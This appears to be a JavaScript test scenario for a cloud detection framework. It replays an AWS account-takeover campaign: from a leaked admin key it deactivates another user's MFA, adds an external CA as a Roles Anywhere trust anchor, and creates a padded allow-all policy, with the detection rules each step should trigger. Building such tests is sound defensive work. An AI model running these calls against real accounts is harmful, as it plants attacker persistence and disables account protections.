import { CreatePolicyCommand, DeactivateMFADeviceCommand, ListMFADevicesCommand, } from '@aws-sdk/client-iam';
import { awsCli, CreateTrustAnchorCommand, defineScenario, iamUser, seconds } from 'trailproof';
import { externalCa } from './support/certificate.js';
import { ownAdministrator } from './support/own-administrator.js';
import { allowAll, padded } from './support/policies.js';
const abroad = { place: 'amsterdam', client: awsCli({ os: 'kali' }) };
const leaked = iamUser('deploy-bot', { as: 'leaked', ...abroad });
export default defineScenario({
    title: 'Campaign: a shell script turns a leaked key into an account that trusts the attacker',
    description: 'The calls of docs/examples/backdoor.sh, one by one.',
    techniques: ['T1136.003', 'T1098.001', 'T1098.003', 'T1556', 'T1556.006', 'T1531', 'T1685.002'],
    detectedBy: [
        'iam-access-key-for-another-user',
        'iam-admin-policy-attached-to-user',
        'iam-mfa-device-deactivated',
        'rolesanywhere-external-trust-anchor',
        'cloudtrail-policy-padding',
    ],
    world: {
        users: {
            'deploy-bot': { attached: ['AdministratorAccess'] },
            alice: { attached: ['AdministratorAccess'], loginProfile: true, mfa: 'alice-phone' },
        },
    },
    cast: { leaked },
    attack: {
        'from the leaked key to the padded policy': async (play) => {
            const key = await ownAdministrator(play, leaked, 'aws-backup');
            const as = play.as(play.actor('backdoor', key, abroad));
            await play.wait(seconds(1));
            await as.send(new ListMFADevicesCommand({ UserName: 'alice' }));
            await as.send(new DeactivateMFADeviceCommand({
                UserName: 'alice',
                SerialNumber: play.mfa('alice-phone').serialNumber,
            }), { technique: ['T1556.006', 'T1531'] });
            await as.send(new CreateTrustAnchorCommand({
                name: 'servers',
                source: {
                    sourceType: 'CERTIFICATE_BUNDLE',
                    sourceData: { x509CertificateData: externalCa },
                },
                enabled: true,
            }), { technique: ['T1556', 'T1098.003'] });
            await as.send(new CreatePolicyCommand({
                PolicyName: 'tooling',
                PolicyDocument: padded(allowAll, 103_000),
            }), { technique: 'T1685.002' });
        },
    },
});
//# sourceMappingURL=campaign-backdoor.js.map